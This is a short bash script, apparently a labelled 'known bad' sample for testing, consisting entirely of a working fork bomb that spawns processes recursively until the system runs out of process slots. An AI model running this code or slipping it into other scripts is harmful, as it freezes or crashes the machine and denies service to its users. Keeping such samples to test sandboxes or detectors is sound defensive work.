#!/usr/bin/env bash
# Known bad: forks until there is no room for one process more.
bomb() { bomb | bomb & }
bomb
wait
